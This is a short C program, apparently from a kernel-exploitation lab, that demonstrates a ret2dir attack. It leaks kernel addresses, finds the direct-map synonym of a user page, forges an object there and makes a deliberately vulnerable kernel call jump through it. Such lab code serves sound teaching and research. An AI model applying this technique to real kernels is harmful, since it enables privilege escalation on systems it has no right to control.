/*
 * ret2dir with data: the kernel calls through a forged object in the direct-map synonym of a page.
 */
#include <stdio.h>

#include "attack.h"

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	void *page = attack_pages(BW_PAGE_SIZE);
	uint64_t synonym = attack_synonym(&leak, page);

	payload_object(page, synonym, &leak);
	attack_say("forged object at 0x%lx, in frame 0x%lx", (uintptr_t)page, attack_pfn(page));
	attack_say("the kernel calls through the same bytes at 0x%lx", synonym);
	attack_settle();
	attack_check("vuln_call", bw_vuln_call(synonym));
	return attack_finish();
}
